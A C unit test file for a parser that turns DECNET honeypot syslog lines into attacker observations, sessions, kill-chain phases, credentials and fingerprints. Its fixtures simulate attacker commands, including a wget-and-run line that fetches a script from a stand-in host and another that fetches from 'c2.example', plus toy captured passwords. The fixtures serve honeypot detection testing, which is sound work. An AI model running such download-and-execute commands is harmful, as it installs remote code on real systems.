/*  test_decnet.c - the DECNET adapter: DECNET-LOGS.md §1.11's lines and the §2.4 parser
    defects end to end (the right address, decky, service, event and fields in the
    observations), address-less and native lines counted, sessions per decky and service
    (gap, disconnect, session_recorded), phase runs and the shared rule table, credential
    kinds, fingerprints, the state file, cadre's extension element, idle flushing and the
    limits. */
#include "decnet.h"
#include "err.h"
#include "xalloc.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

/*  Observations a sink collected (copies). */
typedef struct {
    obs_t **obs; /* collected records, owned */
    size_t n;    /* number of records */
    size_t cap;  /* slots in obs */
} s_got_t;

static int
s_collect(const obs_t *obs, void *arg)
{
    s_got_t *got = arg;
    obs_error_t err = {0};
    if (obs_check_record(obs, &err) != 0) {
        fail_msg("invalid observation %s: %s %s", obs->id, err.field, err.message);
    }
    xgrow(&got->obs, &got->cap, got->n + 1);
    got->obs[got->n++] = obs_dup(obs);
    return 0;
}

static void
s_got_clear(s_got_t *got)
{
    for (size_t i = 0; i < got->n; i++) {
        obs_destroy(&got->obs[i]);
    }
    free(got->obs);
    memset(got, 0, sizeof *got);
}

/*  Feeds NULL-terminated lines (line numbers from 1) and finishes into got. */
static void
s_run(decnet_t *dn, const char *const *lines, s_got_t *got)
{
    for (size_t i = 0; lines[i]; i++) {
        decnet_feed(dn, lines[i], strlen(lines[i]), i + 1);
    }
    assert_int_equal(decnet_finish(dn, s_collect, got), 0);
    assert_int_equal(decnet_open(dn), 0);
}

/*  The observation with id, which must exist. */
static const obs_t *
s_obs(const s_got_t *got, const char *id)
{
    for (size_t i = 0; i < got->n; i++) {
        if (strcmp(got->obs[i]->id, id) == 0) {
            return got->obs[i];
        }
    }
    fail_msg("no observation '%s' among %zu", id, got->n);
    return NULL;
}

#define TS "2026-05-02T06:22:48.089309+00:00"
#define T_EXAMPLE 1777702968.089309

/*  The example lines of DECNET-LOGS.md §1.11. */
static const char *const s_examples[] = {
    "<134>1 " TS " decky-03 ftp - connection [relay@55555 src_ip=\"203.0.113.7\" "
    "src_port=\"51514\"]",
    "<134>1 " TS " SRV-DELTA-77 auth-helper - auth_attempt [relay@55555 username=\"root\" "
    "principal=\"root\" secret_printable=\"123456\" secret_b64=\"MTIzNDU2\" "
    "src_ip=\"203.0.113.7\"]",
    "<134>1 " TS " decky-01 http - request [relay@55555 method=\"GET\" path=\"/admin\" "
    "remote_addr=\"203.0.113.7\" headers=\"{\\\"Host\\\": \\\"192.168.1.110\\\", "
    "\\\"User-Agent\\\": \\\"curl/8.5.0\\\", \\\"Authorization\\\": \\\"Basic "
    "YWRtaW46YWRtaW4=\\\"}\" body=\"\" principal=\"admin\" secret_kind=\"plaintext\" "
    "secret_printable=\"admin\" secret_b64=\"YWRtaW4=\"]",
    "<134>1 " TS " decky-01 sniffer - tls_client_hello [relay@55555 src_ip=\"203.0.113.7\" "
    "src_port=\"51514\" dst_ip=\"192.168.1.110\" dst_port=\"443\" "
    "ja3=\"e7d705a3286e19ea42f587b344ee6865\" ja4=\"t13d1516h2_8daaf6152771_02713d6af862\" "
    "tls_version=\"TLS 1.2\" sni=\"\" alpn=\"h2,http/1.1\" raw_ciphers=\"4865-4866\" "
    "raw_extensions=\"0-23-65281\"]",
    "<14>1 " TS " omega-decky 1 - - -  2026-05-02T06:22:48.089286+00:00 SRV-DELTA-77 bash - "
    "command [timeQuality tzKnown=\"1\" isSynced=\"1\" syncAccuracy=\"326228\"] CMD uid=0 "
    "user=root src=192.168.1.5 pwd=/root cmd=ls /var/www/html",
    NULL};

static void
test_example_lines(void **state)
{
    (void)state;
    decnet_t *dn = decnet_new(NULL);
    decnet_add_decky(dn, "decky-05", "SRV-DELTA-77", "ssh");
    decnet_add_decky(dn, "omega-decky", "SRV-OMEGA-1", "ssh,http");
    s_got_t got = {0};
    s_run(dn, s_examples, &got);
    assert_int_equal(got.n, 2);
    assert_int_equal(decnet_lines(dn), 5);
    assert_int_equal(decnet_bad(dn), 0);
    assert_int_equal(decnet_no_ip(dn), 0);
    const obs_t *a = got.obs[0];
    assert_string_equal(a->id, "decnet:203.0.113.7");
    assert_string_equal(a->ip, "203.0.113.7");
    assert_string_equal(a->ja3, "e7d705a3286e19ea42f587b344ee6865");
    assert_string_equal(a->ja4, "t13d1516h2_8daaf6152771_02713d6af862");
    assert_null(a->hassh);
    assert_int_equal(a->n_sessions, 3);
    /* ftp on decky-03: a connection alone is reconnaissance */
    assert_string_equal(a->sessions[0].id, "ftp-1");
    assert_string_equal(a->sessions[0].decky, "decky-03");
    assert_int_equal(a->sessions[0].phase, UKC_RECONNAISSANCE);
    assert_true(a->sessions[0].start == T_EXAMPLE);
    /* the auth-helper line's cosmetic hostname is decky-05's */
    assert_string_equal(a->sessions[1].id, "ssh-2");
    assert_string_equal(a->sessions[1].decky, "decky-05");
    assert_int_equal(a->sessions[1].phase, UKC_CREDENTIAL_ACCESS);
    assert_int_equal(a->sessions[1].n_creds, 1);
    assert_string_equal(a->sessions[1].creds[0].user, "root");
    assert_string_equal(a->sessions[1].creds[0].pass, "123456");
    assert_string_equal(a->sessions[2].decky, "decky-01");
    assert_string_equal(a->sessions[2].creds[0].user, "admin");
    assert_string_equal(a->sessions[2].creds[0].pass, "admin");
    const obs_t *b = got.obs[1];
    assert_string_equal(b->id, "decnet:192.168.1.5");
    assert_int_equal(b->n_sessions, 1);
    assert_string_equal(b->sessions[0].decky, "omega-decky");
    assert_int_equal(b->sessions[0].phase, UKC_EXECUTION);
    assert_int_equal(b->sessions[0].n_commands, 1);
    assert_string_equal(b->sessions[0].commands[0], "ls /var/www/html");
    assert_true(b->sessions[0].start == 1777702968.089286);
    s_got_clear(&got);
    decnet_destroy(&dn);
    assert_null(dn);
}

/*  Without the state file the cosmetic hostname is a decky of its own. */
static void
test_without_state(void **state)
{
    (void)state;
    decnet_t *dn = decnet_new(NULL);
    s_got_t got = {0};
    s_run(dn, s_examples, &got);
    assert_string_equal(got.obs[0]->sessions[1].decky, "SRV-DELTA-77");
    s_got_clear(&got);
    decnet_destroy(&dn);
}

static void
test_load_state(void **state)
{
    (void)state;
    decnet_t *dn = decnet_new(NULL);
    const char *text = "{\"config\": {\"deckies\": [{\"name\": \"decky-07\", \"ip\": "
                       "\"192.168.1.117\", \"hostname\": \"WEB-07\", \"services\": [\"telnet\"]},"
                       " {\"ip\": \"x\"}, 5]}, \"other\": 1}";
    obs_error_t err;
    assert_int_equal(decnet_load_state(dn, text, strlen(text), &err), 1);
    const char *lines[] = {
        "<134>1 " TS " WEB-07 auth-helper - auth_attempt [relay@55555 username=\"a\" "
        "principal=\"a\" secret_printable=\"b\" secret_b64=\"Yg==\" src_ip=\"198.51.100.1\"]",
        NULL};
    s_got_t got = {0};
    s_run(dn, lines, &got);
    assert_string_equal(got.obs[0]->sessions[0].decky, "decky-07");
    assert_string_equal(got.obs[0]->sessions[0].id, "telnet-1"); /* a Telnet-only decky */
    s_got_clear(&got);
    assert_int_equal(decnet_load_state(dn, "[]", 2, &err), CADRE_ERECORD);
    assert_int_equal(decnet_load_state(dn, "{", 1, &err), CADRE_ERECORD);
    decnet_destroy(&dn);
}

/*  DECNET-LOGS.md §2.4, each defect done right. */
static void
test_parser_defects(void **state)
{
    (void)state;
    decnet_t *dn = decnet_new(NULL);
    const char *lines[] = {
        /* 1: an SSH password holding ']' keeps its credential and its src_ip */
        "<134>1 " TS " SRV-A auth-helper - auth_attempt [relay@55555 username=\"root\" "
        "principal=\"root\" secret_printable=\"x\\]y\\\"z\" secret_b64=\"eF15Ino=\" "
        "src_ip=\"198.51.100.4\"]",
        /* 2: IPv6 ending in decimal digits is not split as ip:port */
        "<134>1 " TS " decky-02 smb - connection [relay@55555 src_ip=\"2001:db8::10\" "
        "src_port=\"445\"]",
        /* 3, 4: Caddy's ip:port and Flask's bare IP are the same attacker */
        "<134>1 " TS " decky-02 http - http_request_fingerprint [relay@55555 "
        "remote_addr=\"203.0.113.7:51514\" proto=\"h1\" ja4h=\"ge11nn050000_abc\" "
        "headers_ordered=\"[\\\"host\\\", \\\"user-agent\\\"\\]\"]",
        "<134>1 " TS " decky-02 http - request [relay@55555 method=\"GET\" path=\"/\" "
        "remote_addr=\"203.0.113.7\" headers=\"{\\\"User-Agent\\\": \\\"zgrab/0.x\\\"}\"]",
        /* 5: [v6]:port, and an IPv4-mapped address as IPv4 */
        "<134>1 " TS " decky-02 http - http_access [relay@55555 "
        "remote_addr=\"[2001:db8::10]:40000\" status=\"200\"]",
        "<134>1 " TS " decky-02 mysql - connect [relay@55555 src=\"::ffff:203.0.113.7\"]",
        /* 7: Telnet: no src, the IP in the command is not the attacker */
        "<14>1 " TS " omega-decky 1 - - -  " TS " SRV-OMEGA bash - command - CMD uid=0 pwd=/ "
        "cmd=ping -c1 8.8.8.8",
        /* 8, 9: FTP and MQTT credentials carry no address */
        "<134>1 " TS " decky-03 ftp - auth_attempt [relay@55555 username=\"u\" principal=\"u\" "
        "secret_printable=\"p\" secret_b64=\"cA==\"]",
        "<134>1 " TS " decky-04 mqtt - auth [relay@55555 username=\"u\" secret_b64=\"cA==\"]",
        /* 10: sentinels are no addresses */
        "<134>1 " TS " decky-04 smb - disconnect [relay@55555 src_ip=\"?\"]",
        "<134>1 " TS " - sessrec - session_recorded [relay@55555 src_ip=\"-\" sid=\"x\"]",
        /* 12: DECNET's own diagnostics, a native line */
        "<134>1 " TS " master decnet 4242 decnet.collector - collector started",
        "<86>1 " TS " decky-01 sudo 311 - -  root : COMMAND=/bin/ls 203.0.113.99", NULL};
    s_got_t got = {0};
    s_run(dn, lines, &got);
    assert_int_equal(got.n, 3);
    assert_int_equal(decnet_bad(dn), 0);
    assert_int_equal(decnet_native(dn), 2);
    assert_int_equal(decnet_no_ip(dn), 5);
    const obs_t *a = s_obs(&got, "decnet:198.51.100.4");
    assert_string_equal(a->sessions[0].creds[0].pass, "x]y\"z");
    const obs_t *v6 = s_obs(&got, "decnet:2001:db8::10");
    assert_int_equal(v6->n_sessions, 2); /* smb, http */
    const obs_t *w = s_obs(&got, "decnet:203.0.113.7");
    assert_int_equal(w->n_sessions, 2); /* http (fingerprint, request), mysql */
    assert_int_equal(w->sessions[0].phase, UKC_RECONNAISSANCE);
    /* address-less kinds, named */
    uint64_t n = 0;
    assert_string_equal(decnet_no_ip_kind(dn, 0, &n), "bash/command");
    assert_int_equal(n, 1);
    assert_string_equal(decnet_no_ip_kind(dn, 1, &n), "ftp/auth_attempt");
    assert_string_equal(decnet_no_ip_kind(dn, 2, &n), "mqtt/auth");
    assert_int_equal(decnet_no_ip_kinds(dn), 5);
    s_got_clear(&got);
    decnet_destroy(&dn);
}

static void
test_fingerprints(void **state)
{
    (void)state;
    decnet_t *dn = decnet_new(NULL);
    const char *lines[] = {
        "<134>1 2026-05-02T06:22:50+00:00 decky-01 sniffer - ssh_client_banner [relay@55555 "
        "src_ip=\"203.0.113.7\" src_port=\"5\" dst_ip=\"192.168.1.101\" dst_port=\"22\" "
        "ssh_version=\"SSH-2.0-Go\"]",
        "<134>1 2026-05-02T06:22:49+00:00 decky-01 sniffer - ssh_client_banner [relay@55555 "
        "src_ip=\"203.0.113.7\" ssh_version=\"SSH-2.0-libssh_0.9.6\"]",
        "<134>1 2026-05-02T06:22:49+00:00 decky-01 sniffer - tcp_syn_fingerprint [relay@55555 "
        "src_ip=\"203.0.113.7\" ttl=\"52\" initial_ttl=\"64\" window=\"64240\" mss=\"1460\" "
        "wscale=\"7\" options_sig=\"M,S,T,N,W\" os_guess=\"linux\"]",
        "<134>1 2026-05-02T06:22:49+00:00 decky-01 sniffer - tls_client_hello [relay@55555 "
        "src_ip=\"203.0.113.7\" ja3=\"j3\" ja4=\"j4\" ja4l_rtt_ms=\"12.5\" "
        "ja4l_client_ttl=\"52\"]",
        "<134>1 2026-05-02T06:22:49+00:00 decky-01 sniffer - tcp_flow_timing [relay@55555 "
        "src_ip=\"203.0.113.8\" packets=\"5\"]",
        "<134>1 2026-05-02T06:30:00+00:00 decnet-prober prober - jarm_fingerprint [relay@55555 "
        "target_ip=\"203.0.113.7\" target_port=\"443\" jarm_hash=\"2ad2ad0002ad\"] JARM",
        "<134>1 2026-05-02T06:30:00+00:00 decnet-prober prober - hassh_fingerprint "
        "[relay@55555 target_ip=\"203.0.113.7\" target_port=\"22\" "
        "hassh_server_hash=\"b12d2871a1189eff20364cf5333619ee\"] HASSH 203.0.113.7:22 = b12d",
        "<134>1 2026-05-02T06:30:00+00:00 decky-01 http - http_request_fingerprint "
        "[relay@55555 remote_addr=\"203.0.113.7:1\" ja4h=\"ge11\" "
        "headers_ordered=\"[\\\"host\\\"\\]\"]",
        "<134>1 2026-05-02T06:30:00+00:00 decky-01 http - request [relay@55555 "
        "remote_addr=\"203.0.113.7\" headers=\"{\\\"user-agent\\\": \\\"curl/8\\\"}\"]",
        NULL};
    for (size_t i = 0; lines[i]; i++) {
        decnet_feed(dn, lines[i], strlen(lines[i]), i + 1);
    }
    const char *ip = "203.0.113.7";
    assert_string_equal(decnet_fingerprint(dn, ip, DECNET_FP_SSH_CLIENT), "SSH-2.0-libssh_0.9.6");
    assert_string_equal(decnet_fingerprint(dn, ip, DECNET_FP_TCP_SYN), "64:64240:1460:7:M,S,T,N,W");
    assert_string_equal(decnet_fingerprint(dn, ip, DECNET_FP_JA4L), "12.5_52");
    assert_string_equal(decnet_fingerprint(dn, ip, DECNET_FP_JARM), "2ad2ad0002ad");
    assert_string_equal(decnet_fingerprint(dn, ip, DECNET_FP_HASSH_SERVER),
                        "b12d2871a1189eff20364cf5333619ee");
    assert_string_equal(decnet_fingerprint(dn, ip, DECNET_FP_JA4H), "ge11");
    assert_string_equal(decnet_fingerprint(dn, ip, DECNET_FP_HTTP_HEADERS), "[\"host\"]");
    assert_string_equal(decnet_fingerprint(dn, ip, DECNET_FP_USER_AGENT), "curl/8");
    assert_null(decnet_fingerprint(dn, ip, DECNET_FP_TLS_CERT));
    assert_null(decnet_fingerprint(dn, "203.0.113.8", DECNET_FP_TCP_SYN));
    assert_int_equal(decnet_ignored(dn), 1); /* flow timing: no observation of its own */
    assert_string_equal(decnet_fp_kind_name(DECNET_FP_HASSH_SERVER), "hassh_server");
    assert_null(decnet_fp_kind_name(DECNET_FP_KINDS));
    for (int k = 0; k < DECNET_FP_KINDS; k++) {
        const char *name = decnet_fp_kind_name((decnet_fp_kind_t)k);
        obs_error_t err;
        assert_int_equal(obs_check_fp_kind(name, strlen(name), &err, "k"), 0);
    }
    s_got_t got = {0};
    assert_int_equal(decnet_finish(dn, s_collect, &got), 0);
    assert_int_equal(got.n, 1);
    const obs_t *o = got.obs[0];
    assert_string_equal(o->ja3, "j3");
    assert_string_equal(o->ja4, "j4");
    assert_int_equal(o->n_sessions, 1); /* sniffer and prober lines make none */
    /* every other kind in the observation's fingerprint map */
    assert_int_equal(o->n_fps, 8);
    assert_string_equal(obs_fp_get(o, "ssh_client"), "SSH-2.0-libssh_0.9.6");
    assert_string_equal(obs_fp_get(o, "tcp_syn"), "64:64240:1460:7:M,S,T,N,W");
    assert_string_equal(obs_fp_get(o, "ja4l"), "12.5_52");
    assert_string_equal(obs_fp_get(o, "jarm"), "2ad2ad0002ad");
    assert_string_equal(obs_fp_get(o, "hassh_server"), "b12d2871a1189eff20364cf5333619ee");
    assert_string_equal(obs_fp_get(o, "ja4h"), "ge11");
    assert_string_equal(obs_fp_get(o, "http_headers"), "[\"host\"]");
    assert_string_equal(obs_fp_get(o, "http_useragent"), "curl/8");
    assert_null(obs_fp_get(o, "jarm_hash"));
    s_got_clear(&got);
    decnet_destroy(&dn);
}

static void
test_credential_kinds(void **state)
{
    (void)state;
    char *s = decnet_credential_secret("plaintext", "pw");
    assert_string_equal(s, "pw");
    free(s);
    s = decnet_credential_secret(NULL, "pw");
    assert_string_equal(s, "pw");
    free(s);
    s = decnet_credential_secret("ntlmssp_v2", "0a1b");
    assert_string_equal(s, "ntlmssp_v2:0a1b");
    free(s);
    decnet_t *dn = decnet_new(NULL);
    const char *lines[] = {
        "<132>1 " TS " decky-02 smb - auth_attempt [relay@55555 src_ip=\"198.51.100.9\" "
        "src_port=\"4\" username=\"adm\" domain=\"CORP\" principal=\"CORP\\\\adm\" "
        "secret_kind=\"ntlmssp_v2\" secret_printable=\"0a1b2c\" secret_b64=\"ChOs\"]",
        /* a plaintext secret that is not UTF-8 falls back to secret_printable */
        "<134>1 " TS " SRV-B auth-helper - auth_attempt [relay@55555 username=\"r\" "
        "principal=\"r\" secret_printable=\"a?b\" secret_b64=\"Yf9i\" src_ip=\"198.51.100.9\"]",
        /* principal "None": the username stands in */
        "<134>1 " TS " decky-02 redis - auth [relay@55555 src=\"198.51.100.9\" principal=\"None\" "
        "username=\"default\" secret_printable=\"s3\" secret_b64=\"czM=\"]",
        /* a bearer token keeps its kind */
        "<134>1 " TS " decky-02 http - request [relay@55555 remote_addr=\"198.51.100.9\" "
        "principal=\"None\" secret_kind=\"http_bearer\" secret_printable=\"tok\" "
        "secret_b64=\"dG9r\"]",
        NULL};
    s_got_t got = {0};
    s_run(dn, lines, &got);
    const obs_t *o = got.obs[0];
    assert_int_equal(o->n_sessions, 4);
    assert_string_equal(o->sessions[0].creds[0].user, "CORP\\adm");
    assert_string_equal(o->sessions[0].creds[0].pass, "ntlmssp_v2:0a1b2c");
    assert_string_equal(o->sessions[1].creds[0].pass, "a?b");
    assert_string_equal(o->sessions[2].creds[0].user, "default");
    assert_string_equal(o->sessions[2].creds[0].pass, "s3");
    assert_string_equal(o->sessions[3].creds[0].user, "None");
    assert_string_equal(o->sessions[3].creds[0].pass, "http_bearer:tok");
    s_got_clear(&got);
    decnet_destroy(&dn);
}

#define CMD(ts, text)                                                                              \
    "<14>1 " ts " decky-09 1 - - -  " ts " SRV-9 bash - command - CMD uid=0 user=root "            \
    "src=203.0.113.50 pwd=/root cmd=" text

/*  Sessions per decky and service; phase runs; C2, payload; session_recorded's duration. */
static void
test_sessions(void **state)
{
    (void)state;
    decnet_t *dn = decnet_new(NULL);
    decnet_add_decky(dn, "decky-09", "SRV-9", "ssh,smb");
    const char *lines[] = {
        "<134>1 2026-05-02T10:00:00+00:00 SRV-9 auth-helper - auth_attempt [relay@55555 "
        "username=\"root\" principal=\"root\" secret_printable=\"1\" secret_b64=\"MQ==\" "
        "src_ip=\"203.0.113.50\"]",
        CMD("2026-05-02T10:00:05+00:00", "uname -a"),
        CMD("2026-05-02T10:00:06+00:00", "cd /tmp; wget http://198.51.100.77/x.sh; sh x.sh"),
        "<134>1 2026-05-02T10:00:07+00:00 decky-09 ssh - file_captured [relay@55555 "
        "src_ip=\"203.0.113.50\" src_port=\"40000\" sha256=\"ab12\" orig_path=\"/tmp/x.sh\"]",
        CMD("2026-05-02T10:00:08+00:00", "crontab -l"),
        "<134>1 2026-05-02T10:00:09+00:00 decky-09 sessrec - session_recorded [relay@55555 "
        "src_ip=\"203.0.113.50\" sid=\"s\" service=\"ssh\" duration_s=\"30.5\"]",
        /* after session_recorded: a new SSH session on the same decky */
        CMD("2026-05-02T10:00:10+00:00", "id"),
        /* the same decky's smb, interleaved: its own session */
        "<134>1 2026-05-02T10:00:04+00:00 decky-09 smb - connection [relay@55555 "
        "src_ip=\"203.0.113.50\"]",
        "<134>1 2026-05-02T10:00:11+00:00 decky-09 smb - disconnect [relay@55555 "
        "src_ip=\"203.0.113.50\"]",
        "<134>1 2026-05-02T10:00:12+00:00 decky-09 smb - connection [relay@55555 "
        "src_ip=\"203.0.113.50\"]",
        /* more than the gap later: another smb session */
        "<134>1 2026-05-02T11:00:00+00:00 decky-09 smb - connection [relay@55555 "
        "src_ip=\"203.0.113.50\"]",
        NULL};
    s_got_t got = {0};
    s_run(dn, lines, &got);
    const obs_t *o = got.obs[0];
    /* ssh-1 (credential_access, discovery, c2, persistence), smb-2, ssh-3, smb-4, smb-5 */
    assert_int_equal(o->n_sessions, 8);
    const obs_session_t *s = o->sessions;
    assert_string_equal(s[0].id, "ssh-1");
    assert_int_equal(s[0].phase, UKC_CREDENTIAL_ACCESS);
    /* session_recorded: 30.5 s ending at 10:00:09 */
    assert_true(s[0].start == 1777716000.0 + 9 - 30.5);
    assert_true(s[0].duration == 30.5 - 9); /* to its last event, the login */
    assert_string_equal(s[1].id, "ssh-1#2");
    assert_int_equal(s[1].phase, UKC_DISCOVERY);
    assert_string_equal(s[2].id, "ssh-1#3");
    assert_int_equal(s[2].phase, UKC_COMMAND_AND_CONTROL);
    assert_string_equal(s[2].c2, "198.51.100.77");
    assert_string_equal(s[2].payload_hash, "ab12"); /* the file joins the C2 run */
    assert_string_equal(s[3].id, "ssh-1#4");
    assert_int_equal(s[3].phase, UKC_PERSISTENCE);
    assert_true(s[3].start + s[3].duration == 1777716009.0);
    assert_string_equal(s[4].id, "smb-2");
    assert_int_equal(s[4].phase, UKC_RECONNAISSANCE);
    assert_true(s[4].duration == 7.0);
    assert_string_equal(s[5].id, "ssh-3");
    assert_string_equal(s[5].commands[0], "id");
    assert_string_equal(s[6].id, "smb-4");
    assert_string_equal(s[7].id, "smb-5");
    assert_true(s[7].start == 1777719600.0);
    s_got_clear(&got);
    decnet_destroy(&dn);
}

/*  cadre's extension element: session ids, phases and truth labels carried by generated
    lines; sessions keyed by id even when their times interleave. */
static void
test_extension(void **state)
{
    (void)state;
    decnet_t *dn = decnet_new(NULL);
    const char *lines[] = {
        "<134>1 2026-01-01T00:00:00+00:00 decky-01 sniffer - tcp_syn_fingerprint [relay@55555 "
        "src_ip=\"192.0.2.1\" initial_ttl=\"64\"][cadre@32473 campaign=\"camp-1\" "
        "identity=\"id-1\" actor=\"act-1\"]",
        "<134>1 2026-01-01T00:00:01+00:00 decky-01 smb - connection [relay@55555 "
        "src_ip=\"192.0.2.1\"][cadre@32473 session=\"sess-a\" phase=\"exfiltration\"]",
        "<134>1 2026-01-01T00:00:02+00:00 decky-01 smb - connection [relay@55555 "
        "src_ip=\"192.0.2.1\"][cadre@32473 session=\"sess-b\" phase=\"exfiltration\"]",
        "<134>1 2026-01-01T00:00:03+00:00 decky-01 smb - disconnect [relay@55555 "
        "src_ip=\"192.0.2.1\"][cadre@32473 session=\"sess-a\" phase=\"exfiltration\"]",
        CMD("2026-01-01T00:00:04+00:00", "ls") "",
        NULL};
    s_got_t got = {0};
    s_run(dn, lines, &got);
    assert_int_equal(got.n, 2);
    const obs_t *o = s_obs(&got, "decnet:192.0.2.1");
    assert_string_equal(o->truth_campaign, "camp-1");
    assert_string_equal(o->truth_identity, "id-1");
    assert_string_equal(o->truth_actor, "act-1");
    assert_int_equal(o->n_sessions, 2);
    assert_string_equal(o->sessions[0].id, "sess-a");
    assert_int_equal(o->sessions[0].phase, UKC_EXFILTRATION);
    assert_true(o->sessions[0].duration == 2.0);
    assert_string_equal(o->sessions[1].id, "sess-b");
    assert_true(o->sessions[1].duration == 0.0);
    s_got_clear(&got);
    decnet_destroy(&dn);
}

static void
test_bad_lines_and_limits(void **state)
{
    (void)state;
    decnet_t *dn = decnet_new(NULL);
    size_t big = OBS_MAX_TEXT + 100;
    char *huge = xmalloc(big + 200);
    int n = snprintf(huge, 200, CMD("2026-01-01T00:00:00+00:00", "wget http://c2.example/a;"));
    memset(huge + n, 'x', big);
    huge[n + big] = '\0';
    const char *lines[] = {
        "not syslog", "",
        "<134>1 2026-01-01T00:00:00+00:00 d http - request [relay@55555 body=\"cut", huge,
        /* invalid UTF-8 in a command: repaired */
        CMD("2026-01-01T00:00:01+00:00", "echo \xff\xfe ok"), NULL};
    s_got_t got = {0};
    s_run(dn, lines, &got);
    assert_int_equal(decnet_lines(dn), 5);
    assert_int_equal(decnet_bad(dn), 2);
    assert_int_equal(decnet_bad_reported(dn), 2);
    assert_int_equal(decnet_bad_at(dn, 0)->line_no, 1);
    assert_int_equal(decnet_bad_at(dn, 1)->line_no, 3);
    assert_null(decnet_bad_at(dn, 2));
    assert_int_equal(decnet_dropped(dn, DECNET_DROP_VALUES), 1);
    assert_string_equal(decnet_drop_name(DECNET_DROP_VALUES), "values");
    assert_int_equal(got.n, 1);
    const obs_t *o = got.obs[0];
    /* the over-long command's text is gone, its C2 host is kept */
    assert_int_equal(o->n_sessions, 2);
    assert_string_equal(o->sessions[0].c2, "c2.example");
    assert_int_equal(o->sessions[0].n_commands, 0);
    assert_string_equal(o->sessions[1].commands[0], "echo \xef\xbf\xbd\xef\xbf\xbd ok");
    assert_int_equal(decnet_bad_line(dn, 9, "too long"), CADRE_ERECORD);
    assert_int_equal(decnet_bad(dn), 3);
    s_got_clear(&got);
    free(huge);
    decnet_destroy(&dn);
}

/*  HOSTNAMEs and APP-NAMEs that RFC 5424 does not allow become no decky and service "other"
    (they reach decky names and session ids, which must stay valid). */
static void
test_odd_header_tokens(void **state)
{
    (void)state;
    decnet_t *dn = decnet_new(NULL);
    decnet_add_decky(dn,
                     "d\xc3\xa9"
                     "cky",
                     "H", NULL); /* ignored: no HOSTNAME can name it */
    char app[80];
    memset(app, 'a', 60);
    app[60] = '\0';
    char line[512];
    snprintf(line, sizeof line,
             "<134>1 2026-01-01T00:00:00+00:00 d\xff\xbd %s - connection [relay@55555 "
             "src_ip=\"192.0.2.1\"]",
             app);
    const char *lines[] = {line,
                           "<134>1 2026-01-01T00:00:01+00:00 H \xc3\xa9 - connection [relay@55555 "
                           "src_ip=\"192.0.2.1\"]",
                           NULL};
    s_got_t got = {0};
    s_run(dn, lines, &got);
    assert_int_equal(got.n, 1);
    const obs_t *o = got.obs[0];
    assert_int_equal(o->n_sessions, 2);
    assert_null(o->sessions[0].decky);
    assert_string_equal(o->sessions[0].id, "other-1");
    assert_string_equal(o->sessions[1].decky, "H");
    assert_string_equal(o->sessions[1].id, "other-2");
    s_got_clear(&got);
    decnet_destroy(&dn);
}

static void
test_flush_idle(void **state)
{
    (void)state;
    decnet_t *dn = decnet_new(&(decnet_opts_t){.flush_idle = 3600});
    const char *lines[] = {
        "<134>1 2026-01-01T00:00:00+00:00 d1 smb - connection [relay@55555 src_ip=\"192.0.2.1\"]",
        "<134>1 2026-01-01T00:30:00+00:00 d1 smb - connection [relay@55555 src_ip=\"192.0.2.2\"]",
        "<134>1 2026-01-01T02:00:00+00:00 d1 smb - connection [relay@55555 src_ip=\"192.0.2.2\"]",
        "<134>1 2026-01-01T02:00:01+00:00 d1 smb - connection [relay@55555 src_ip=\"192.0.2.1\"]",
        NULL};
    s_got_t got = {0};
    for (size_t i = 0; lines[i]; i++) {
        decnet_feed(dn, lines[i], strlen(lines[i]), i + 1);
        assert_int_equal(decnet_emit_idle(dn, s_collect, &got), 0);
    }
    /* 192.0.2.1 went idle at 02:00 (and returned); 192.0.2.2 returned after 1.5 h too */
    assert_int_equal(got.n, 2);
    assert_string_equal(got.obs[0]->id, "decnet:192.0.2.1");
    assert_string_equal(got.obs[1]->id, "decnet:192.0.2.2");
    assert_int_equal(decnet_finish(dn, s_collect, &got), 0);
    assert_int_equal(got.n, 4);
    assert_string_equal(got.obs[2]->id, "decnet:192.0.2.2~2");
    assert_string_equal(got.obs[3]->id, "decnet:192.0.2.1~2");
    assert_int_equal(decnet_observations(dn), 4);
    assert_true(decnet_open_peak(dn) >= 2);
    s_got_clear(&got);
    decnet_destroy(&dn);
}

/*  cadre syslog-recv's output ("WORKER TAB MSG", MSG escaped): the worker name is dropped,
    the escapes undone, so an LF in an attacker's value no longer cuts the record. */
static void
test_syslog_recv_lines(void **state)
{
    (void)state;
    decnet_t *dn = decnet_new(NULL);
    const char *lines[] = {
        "worker-1\t<134>1 2026-01-01T00:00:00+00:00 decky-01 http - request [relay@55555 "
        "remote_addr=\"203.0.113.5\" body=\"line one\\nline two\" principal=\"u\\\\\\\\x\" "
        "secret_printable=\"p\" secret_b64=\"cA==\"]",
        "worker 2\t<134>1 2026-01-01T00:00:00+00:00 d x - e -", /* a space: no worker name */
        NULL};
    s_got_t got = {0};
    s_run(dn, lines, &got);
    assert_int_equal(decnet_bad(dn), 1);
    assert_int_equal(got.n, 1);
    assert_string_equal(got.obs[0]->id, "decnet:203.0.113.5");
    assert_string_equal(got.obs[0]->sessions[0].creds[0].user, "u\\x");
    double t = 0;
    assert_int_equal(decnet_line_time(lines[0], strlen(lines[0]), &t), 0);
    assert_true(t == 1767225600.0);
    char out[16];
    assert_int_equal(decnet_unescape("a\\\\b\\tc\\qd\\", 11, out), 9);
    assert_memory_equal(out, "a\\b\tc\\qd\\", 9);
    s_got_clear(&got);
    decnet_destroy(&dn);
}

static void
test_line_time(void **state)
{
    (void)state;
    double t = 0;
    assert_int_equal(decnet_line_time(s_examples[0], strlen(s_examples[0]), &t), 0);
    assert_true(t == T_EXAMPLE);
    assert_int_equal(decnet_line_time("<1>1 x", 6, &t), CADRE_ERECORD);
    assert_int_equal(decnet_line_time("{}", 2, &t), CADRE_ERECORD);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_example_lines),
        cmocka_unit_test(test_without_state),
        cmocka_unit_test(test_load_state),
        cmocka_unit_test(test_parser_defects),
        cmocka_unit_test(test_fingerprints),
        cmocka_unit_test(test_credential_kinds),
        cmocka_unit_test(test_sessions),
        cmocka_unit_test(test_extension),
        cmocka_unit_test(test_bad_lines_and_limits),
        cmocka_unit_test(test_flush_idle),
        cmocka_unit_test(test_odd_header_tokens),
        cmocka_unit_test(test_line_time),
        cmocka_unit_test(test_syslog_recv_lines),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
